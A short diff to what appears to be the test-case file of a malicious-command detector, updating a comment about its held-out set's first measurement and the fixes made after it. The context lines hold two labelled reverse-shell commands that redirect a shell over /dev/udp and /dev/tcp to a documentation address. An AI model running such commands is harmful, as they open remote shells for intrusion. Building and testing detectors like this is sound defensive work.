@@ -340,8 +340,9 @@ CASES: list[dict[str, Any]] = [
 ]
 
 #: Written after the rules were frozen: other spellings of the same behaviours and more benign look-alikes. A
-#: fairer, still self-made, estimate. First measurement: 24/26 malicious found, 0/16 false positives; one fix
-#: was made after seeing it (Log4j lookup folding, ``${lower:j}``), so later numbers on this set are not clean.
+#: fairer, still self-made, estimate. First measurement: 24/26 malicious found, 0/16 false positives; both misses
+#: were fixed after seeing them (Log4j lookup folding; Python socket command loop), so later numbers on this set
+#: are not clean.
 HELDOUT: list[dict[str, Any]] = [
     _c(1, "reverse_shell", _sh("sh -i >& /dev/udp/198.51.100.4/53 0>&1")),
     _c(1, "reverse_shell", _sh("0<&196;exec 196<>/dev/tcp/198.51.100.4/4242; sh <&196 >&196 2>&196")),
